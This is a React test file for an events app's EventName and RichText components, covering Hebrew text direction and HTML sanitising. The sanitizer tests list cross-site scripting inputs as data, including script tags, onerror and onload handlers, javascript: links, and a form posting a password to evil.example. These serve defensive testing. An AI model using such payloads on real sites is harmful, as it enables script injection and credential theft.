import { render, screen } from '@testing-library/react';
import { EventName } from './EventName';
import { RichText } from './RichText';
import { fetchSanitizer } from './fetchSanitizer';

test('EventName marks a Hebrew name as Hebrew and isolates its direction', () => {
  render(<EventName name="שבת פרשת נח" />);
  const name = screen.getByText('שבת פרשת נח');
  expect(name.tagName).toBe('BDI');
  expect(name).toHaveAttribute('lang', 'he');
  expect(name).toHaveAttribute('dir', 'rtl');
});

test('EventName isolates an English name and hides its emoji from screen readers', () => {
  render(<EventName name="Sukkos" emoji="🌿" />);
  const name = screen.getByText('Sukkos');
  expect(name.tagName).toBe('BDI');
  expect(name).not.toHaveAttribute('lang');
  expect(screen.getByText('🌿')).toHaveAttribute('aria-hidden', 'true');
});

test('RichText shows plain text unchanged', () => {
  const text = 'Quiet hours:\n10 pm to 7 am\nfewer than <10 men, or write to <office@example.com> & see';
  const { container } = render(<RichText text={text} />);
  expect(container).toHaveTextContent('fewer than <10 men, or write to <office@example.com> & see');
  expect(container.firstElementChild?.textContent).toBe(text);
});

test('RichText keeps the formatting of simple HTML, without headings', async () => {
  render(<RichText text="<h2>Pool</h2><p>Hours are <b>posted</b>.</p><ul><li>Men</li></ul>" />);
  expect((await screen.findByText('posted')).tagName).toBe('B');
  expect(screen.getByRole('listitem')).toHaveTextContent('Men');
  expect(screen.queryByRole('heading')).not.toBeInTheDocument();
  expect(screen.getByText('Pool')).toBeVisible();
});

test('RichText shows HTML on the first render when the sanitizer is already loaded', async () => {
  await fetchSanitizer();
  render(<RichText text="<p>Hours are <b>posted</b>.</p>" />);
  expect(screen.getByText('posted').tagName).toBe('B');
});

test.each([
  ['Quiet hours for Tom &amp; Jerry', 'Quiet hours for Tom & Jerry'],
  ['<dl><dt>Pool</dt></dl>', 'Pool'],
  ['<center><font color="red">Closed</font></center>', 'Closed'],
])('RichText detects %j as HTML', async (text, shown) => {
  render(<RichText text={text} />);
  expect(await screen.findByText(shown)).toBeVisible();
});

test('RichText opens links in a new tab and removes unsafe addresses', async () => {
  render(
    <RichText text={'<p><a href="https://example.com">map</a> <a href="javascript:alert(1)">bad</a></p>'} />,
  );
  const link = await screen.findByRole('link', { name: 'map' });
  expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  expect(screen.getByText('bad')).not.toHaveAttribute('href');
});

test.each([
  '<p>Note<script>globalThis.wasRun = true</script></p>',
  '<p>Note<img src="x" onerror="globalThis.wasRun = true"></p>',
  '<p onclick="globalThis.wasRun = true">Note</p>',
  '<p>Note<svg onload="globalThis.wasRun = true"></svg></p>',
  '<p style="position:fixed" class="modal" id="root">Note</p>',
  '<p>Note<iframe src="javascript:alert(1)"></iframe></p>',
  '<p>Note</p><form action="https://evil.example"><input name="password"></form>',
])('RichText removes the active content of %s', async (html) => {
  const { container } = render(<RichText text={html} />);
  await screen.findByText(/Note/);
  expect(container.querySelectorAll('script, img, svg, iframe, form, input, style')).toHaveLength(0);
  expect(container.innerHTML).not.toMatch(/on(?:error|click|load)|style=|id=|modal/);
  expect(globalThis).not.toHaveProperty('wasRun');
});

test('RichText runs no script when the text is only a script', () => {
  const { container } = render(<RichText text="<script>globalThis.wasRun = true</script>" />);
  expect(container.querySelector('script')).toBeNull();
  expect(globalThis).not.toHaveProperty('wasRun');
});

test('RichText shows the new text when it changes', async () => {
  const { rerender } = render(<RichText text="<p>First</p>" />);
  await screen.findByText('First');
  rerender(<RichText text="<p>Second</p>" />);
  expect(await screen.findByText('Second')).toBeVisible();
  expect(screen.queryByText('First')).not.toBeInTheDocument();
});
